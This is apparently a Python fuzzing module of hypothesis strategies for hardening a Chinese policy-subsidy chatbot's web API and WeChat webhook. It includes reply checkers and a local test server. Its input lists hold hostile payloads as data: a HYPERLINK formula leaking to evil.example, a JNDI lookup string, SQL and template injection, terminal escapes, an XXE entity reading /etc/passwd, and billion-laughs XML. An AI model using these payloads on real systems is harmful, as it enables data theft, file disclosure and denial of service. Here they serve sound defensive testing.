"""Hostile input, generated: hypothesis strategies for questions, /api/ask request bodies and WeChat
XML pushes, plus the cases issue 11 found by hand. Used by tests/test_hardening_inputs.py (a few hundred
examples per entry) and benchmarks/hostile_inputs.py (about 2,000 per entry).

Checks shared by both: `check_answer`, `check_api_reply`, `check_wechat_reply` raise AssertionError
with the reason when a reply is not acceptable (a 5xx, a traceback, a body that is not the contract).
"""
from __future__ import annotations

import asyncio
import http.client
import itertools
import json
import secrets
import threading
import time
import urllib.parse
from xml.sax import saxutils

from hypothesis import strategies as st

# words of the domain, so that generated text reaches deep into fact extraction and the calculator
VOCAB = ["营收", "营业收入", "年产值", "产值", "亿元", "亿", "万元", "万", "元", "奖励", "补贴", "首次", "突破", "达到",
         "晋城", "高平", "泽州", "城区", "阳城", "陵川", "沁水", "忻州", "乡宁", "涉农", "专业镇", "区级", "市级", "省级",
         "认定", "申报", "够不够", "找哪个部门", "电话", "重新开始", "结果", "老字号", "中华老字号", "地理标志", "企业",
         "多少", "能拿", "？", "，", "。", "、", "是", "不是", "第一次", "去年", "今年", "两年", "连续", "以上", "以下",
         "0", "1", "3", "5", "9", "10", ".", "-", "+", "%", "倍", "１", "５", "五", "十", "百", "千", "零", "点", "两",
         "半", "约", "近", "超过", "不到", "左右", "和", "或", "还有", "呢", "吗", " ", "\n"]
# markup, formulas, control and odd characters, surrogates: what an attacker types
NASTY = ["<b>x</b>", "</Content>", "]]>", "<![CDATA[", "&amp;", "&#0;", "&lt;", '=HYPERLINK("http://evil/?"&A1)',
         "+1+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "[/bold]", "[link=file:///etc/passwd]x[/link]", "\x1b[2J",
         "\x1b]52;c;ZXZpbA==\x07", "\x00", "\x07", "\x7f", "\u202e", "\u2066", "\ufeff", "\u200b", "\u2028", "\x85",
         "{{7*7}}", "%s%n%x", "${jndi:ldap://x/a}", "' OR 1=1 --", "\\", '"', "\ud800", "\udfff", "\udc80",
         "😀", "\U0010ffff", "ﷺ", "Ⅻ", "٣", "𝟗", "９", "ｅ", "∞", "NaN", "1e308", "-0", "0x7fffffff", "½"]
UNITS = ["亿元", "亿", "万元", "万", "元", "千万", "百万", "万亿", "亿亿", "%", ""]

# issue 11, by hand
KNOWN_QUESTIONS = [
    "营收" + "9" * 400 + "亿元",
    "[" * 5000,
    "晋城涉农企业营收\ud800首次达到3亿元，奖励多少？",
    "<Content><b>x</b></Content>",
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "营收" + "9" * 5000,
    "营收1e308亿元",
    "九千九百九十九万亿亿亿元",
    "营收-5亿，奖励多少",
    "\x00" * 100,
    "重新开始" * 100,
]


def weighted(*choices: tuple[int, st.SearchStrategy]) -> st.SearchStrategy:
    """One of the strategies, chosen with the given weights (st.one_of picks each branch alike)."""
    return st.sampled_from([s for w, s in choices for _ in range(w)]).flatmap(lambda strategy: strategy)


def _glue(parts: list[str]) -> str:
    return "".join(parts)


def _amount(prefix: str, digits: str, unit: str) -> str:
    return f"{prefix}{digits}{unit}"


questions = st.one_of(
    st.text(max_size=80),                                                         # any Unicode
    st.lists(st.one_of(st.sampled_from(VOCAB), st.sampled_from(NASTY), st.text(max_size=3)),
             max_size=40).map(_glue),                                             # domain words, mixed
    st.builds(_amount, st.sampled_from(["营收", "营业收入", "年产值", "去年营收", "", "营收首次过了"]),
              st.one_of(st.integers(-10**6, 10**30).map(str), st.from_regex(r"\A[0-9０-９.,，e+\-]{1,40}\Z"),
                        st.integers(1, 6000).map(lambda n: "9" * n),
                        st.lists(st.sampled_from("零一二三四五六七八九十百千万亿两点"), min_size=1, max_size=30)
                        .map(_glue)),
              st.sampled_from(UNITS)),                                            # amounts of every shape
    st.builds(lambda s, n: s * n, st.sampled_from(VOCAB + NASTY), st.integers(1, 700)),   # long repetitions
    st.sampled_from(KNOWN_QUESTIONS),
)
# What a channel can carry: Telegram and WeChat deliver valid UTF-8 (no lone surrogates)
utf8_questions = questions.map(lambda q: q.encode("utf-8", "replace").decode("utf-8"))

# ---------------------------------------------------------------- /api/ask bodies
json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20) | questions,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4),
    max_leaves=12)


def _json(value) -> bytes:
    # ensure_ascii: a lone surrogate travels as "\ud800", which is valid JSON
    return json.dumps(value, ensure_ascii=True, allow_nan=True).encode()


def _nested(opener: str, n: int) -> bytes:
    return (opener * n).encode()


_well_formed_ask = st.fixed_dictionaries({"question": questions},
                                        optional={"session_id": json_values, "extra": json_values}).map(_json)
api_bodies = weighted(
    (12, _well_formed_ask),                                                      # most reach the core
    (2, st.fixed_dictionaries({"question": json_values, "session_id": json_values}).map(_json)),
    (2, json_values.map(_json)),
    (2, st.binary(max_size=3000)),
    (1, st.builds(_nested, st.sampled_from(["[", '{"a":', "[{", '{"question":', '{"question":[']),
                  st.integers(1, 6000))),
    (1, st.sampled_from([b"", b"{", b"null", b"1e999999", b'{"question": NaN}', b'{"question": "\\ud800"}',
                         b'{"question": "a", "question": 1}', b"\xef\xbb\xbf{}",
                         b'{"question": "x"}' + b" " * 20000])),
)
api_content_types = st.sampled_from(["application/json"] * 16 + ["application/json; charset=utf-8", "text/plain",
                                                                  "application/x-www-form-urlencoded", "", "*/*"])

# ---------------------------------------------------------------- WeChat XML pushes
FIELDS = ["ToUserName", "FromUserName", "CreateTime", "MsgType", "Content", "MsgId", "Event", "Recognition",
          "MediaId", "EventKey", "Encrypt"]


def _cdata(text: str) -> str:
    return "<![CDATA[" + text.replace("]]>", "]]]]><![CDATA[>") + "]]>"


xml_values = st.one_of(
    questions.map(saxutils.escape),
    questions.map(_cdata),
    st.sampled_from(["oUser_openid_1", "gh_pz", "text", "event", "voice", "image", "subscribe", "unsubscribe",
                     "1", "0", "-1", "99999999999999999999999", "abc", ""]),
    st.sampled_from(["<b>x</b>", "<a><b><c/></b></a>", "<x/>", "<Content>y</Content>", "&amp;&lt;&gt;", "&#1;"]),
    st.text(max_size=30).map(saxutils.escape),
)


def _message(fields: list[tuple[str, str]]) -> str:
    return "<xml>" + "".join(f"<{k}>{v}</{k}>" for k, v in fields) + "</xml>"


_BASE = [("ToUserName", "gh_pz"), ("FromUserName", "oUser_openid_1"), ("CreateTime", "1700000000"),
         ("MsgType", "text")]


def _text_message(base: list[tuple[str, str]], content: str, msg_id: str) -> str:
    return _message(base + [("Content", content), ("MsgId", msg_id)])


# a well-formed text message carrying a hostile question (answered by the real core)
_well_formed_push = st.builds(_text_message, st.just(_BASE),
                              st.one_of(utf8_questions.map(_cdata), utf8_questions.map(saxutils.escape)),
                              st.integers(1, 2**62).map(str))
wechat_bodies = weighted(
    (12, _well_formed_push),
    # any fields, in any order, with any values (nested elements, wrong types)
    (2, st.lists(st.tuples(st.sampled_from(FIELDS), xml_values), max_size=12).map(_message)),
    (3, st.lists(st.tuples(st.sampled_from(FIELDS), xml_values), max_size=6).map(lambda f: _message(_BASE + f))),
    # not a message at all
    (1, questions),
    (1, st.sampled_from([
        "", "<xml>", "<xml></xml>", "<?xml version='1.0'?><xml/>", "<xml><xml><xml></xml></xml></xml>",
        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><xml><Content>&c;&c;&c;&c;</Content></xml>',
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><xml><Content>&e;</Content></xml>',
        "<xml>" + "<a>" * 3000 + "</a>" * 3000 + "</xml>",
        _text_message(_BASE, "<b>x</b>", "1"),
        _text_message(_BASE, _cdata("结果"), "2"),
    ])),
)


def wechat_bytes(xml: str) -> bytes:
    return xml.encode("utf-8", "surrogatepass")     # a lone surrogate becomes bytes that are not UTF-8


# ---------------------------------------------------------------- what counts as a good reply
STATUSES = {"answered", "clarify", "not_found", "error"}
CONTRACT = {"status", "answer", "citations", "rewards", "total_yuan", "warnings"}


def check_answer(answer) -> None:
    """An Answer the adapters can send: a known status, some text, a JSON-able contract."""
    assert answer.status in STATUSES - {"error"}, f"status {answer.status!r}"
    assert isinstance(answer.answer, str) and answer.answer.strip(), "empty answer"
    json.dumps(answer.to_dict(), ensure_ascii=True)
    assert "Traceback" not in answer.answer


def check_api_reply(status: int, body: bytes, content_type: str) -> None:
    assert status < 500, f"HTTP {status}: {body[:200]!r}"
    assert b"Traceback" not in body, body[:500]
    data = json.loads(body.decode("utf-8"))
    if status == 200:
        assert CONTRACT <= set(data), f"not the contract: {sorted(data)}"
        assert data["status"] in STATUSES and isinstance(data["answer"], str) and data["answer"]
        assert isinstance(data["session_id"], str) and 8 <= len(data["session_id"]) <= 64
    else:
        assert 400 <= status < 500 and isinstance(data.get("error"), str) and data["error"], (status, data)


def check_wechat_reply(status: int, body: bytes) -> None:
    assert status < 500, f"HTTP {status}: {body[:200]!r}"
    assert b"Traceback" not in body, body[:500]
    if status != 200:
        assert 400 <= status < 500, status
        return
    if body == b"success":
        return
    import xmltodict
    reply = xmltodict.parse(body)["xml"]
    assert reply["MsgType"] == "text" and isinstance(reply.get("Content"), str) and reply["Content"]
    assert len(reply["Content"].encode("utf-8")) <= 2048


# ---------------------------------------------------------------- an assistant that answers with hostile text
class EchoAssistant:
    """Duck-types Assistant for the adapters' hostile-input tests: instant, and its replies carry the
    question back inside hostile text (markup, "]]>", control characters, 3,000-character answers,
    absurd amounts), so the output side of every channel is attacked too. "boom" raises."""

    def __init__(self):
        self.calls = 0

    def answer(self, question, session):
        from bot.core.types import ANSWERED, CLARIFY, NOT_FOUND, Answer, Citation, Reward
        self.calls += 1
        if "boom" in question:
            raise RuntimeError("simulated failure in the core")
        session.turns += 1
        session.facts["last"] = question[:50]
        session.state["echo"] = question[-20:]
        kind = len(question) % 3
        text = f"关于“{question}”：<b>]]></Content>&amp;\x1b[31m" + ("政策说明。" * 600 if kind == 0 else "")
        cite = Citation(question[:30] or "文", "=1+1", "]]>", question, f"c:{question[:10]}")
        if kind == 1:
            session.pending = {"question": question}
            return Answer(CLARIFY, text, asked_for=["region"])
        return Answer(ANSWERED if kind == 0 else NOT_FOUND, text, citations=[cite],
                      rewards=[Reward(question[:20], 10**30, "<i>", "r")], total_yuan=10**30)

    def citation(self, clause_id):
        return None

    def describe_facts(self, facts):
        return [f"{k}: {v}" for k, v in facts.items()]

    def is_current(self):
        return True


# ---------------------------------------------------------------- the real server, for synchronous callers
WECHAT_TOKEN = "pz-hostile-token"
WECHAT_APP_ID = "wx0123456789abcdef"
WECHAT_AES_KEY = "MDEyMzQ1Njc4OWFiY2RlZjAxMjM0NTY3ODlhYmNkZWY"      # base64 of 32 bytes, 43 characters


class LiveServer:
    """`serve`'s application (web chat API + /wechat, plain and safe mode) on 127.0.0.1 in a thread of
    its own, over a given Runtime; synchronous requests with http.client, so hypothesis tests stay
    plain functions. Use as a context manager."""

    def __init__(self, runtime, config):
        self.runtime, self.config = runtime, config.with_(wechat_token=WECHAT_TOKEN, wechat_app_id=WECHAT_APP_ID,
                                                          wechat_aes_key=WECHAT_AES_KEY)
        self._loop = asyncio.new_event_loop()
        self._thread = threading.Thread(target=self._loop.run_forever, name="live-server", daemon=True)
        self._nonces = itertools.count(1)
        self.port = 0

    def __enter__(self) -> "LiveServer":
        from aiohttp import web

        from bot.adapters.server import create_app, make_runner

        async def start():
            self._runner = make_runner(create_app(self.runtime, self.config, wechat_passive_timeout=10),
                                       self.config)
            await self._runner.setup()
            site = web.TCPSite(self._runner, "127.0.0.1", 0)
            await site.start()
            return site._server.sockets[0].getsockname()[1]
        self._thread.start()
        self.port = asyncio.run_coroutine_threadsafe(start(), self._loop).result(30)
        return self

    def __exit__(self, *exc) -> None:
        asyncio.run_coroutine_threadsafe(self._runner.cleanup(), self._loop).result(30)
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join(10)

    def request(self, method: str, path: str, body: bytes = b"", headers: dict | None = None,
                params: dict | None = None, timeout: float = 60) -> tuple[int, bytes, dict]:
        conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=timeout)
        try:
            url = path + ("?" + urllib.parse.urlencode(params) if params else "")
            conn.request(method, url, body=body, headers=headers or {})
            resp = conn.getresponse()
            return resp.status, resp.read(), dict(resp.getheaders())
        finally:
            conn.close()

    # -- the web chat
    def ask(self, body: bytes, content_type: str = "application/json") -> tuple[int, bytes]:
        headers = {"Content-Type": content_type} if content_type else {}
        status, data, _ = self.request("POST", "/api/ask", body, headers)
        return status, data

    # -- WeChat
    def signed_query(self, **extra) -> dict:
        from wechatpy.utils import WeChatSigner
        timestamp, nonce = str(int(time.time())), f"{next(self._nonces)}{secrets.randbelow(10**9)}"
        signer = WeChatSigner()
        signer.add_data(WECHAT_TOKEN, timestamp, nonce)
        return {"signature": signer.signature, "timestamp": timestamp, "nonce": nonce, **extra}

    def wechat(self, body: bytes, safe: bool = False) -> tuple[int, bytes]:
        """POST a push to /wechat, correctly signed (fresh timestamp, new nonce); in safe mode the body
        is encrypted first, and the reply is decrypted before it is returned."""
        query = self.signed_query()
        if safe:
            import xmltodict
            from wechatpy.crypto import WeChatCrypto
            crypto = WeChatCrypto(WECHAT_TOKEN, WECHAT_AES_KEY, WECHAT_APP_ID)
            envelope = crypto.encrypt_message(body.decode("utf-8", "replace"), query["nonce"], query["timestamp"])
            query.update(encrypt_type="aes", msg_signature=xmltodict.parse(envelope)["xml"]["MsgSignature"])
            body = envelope.encode("utf-8")
        status, data, _ = self.request("POST", "/wechat", body, {"Content-Type": "text/xml"}, query)
        if safe and status == 200 and data != b"success":
            import xmltodict
            sealed = xmltodict.parse(data)["xml"]
            data = crypto.decrypt_message(data, sealed["MsgSignature"], sealed["TimeStamp"],
                                          sealed["Nonce"]).encode("utf-8")
        return status, data
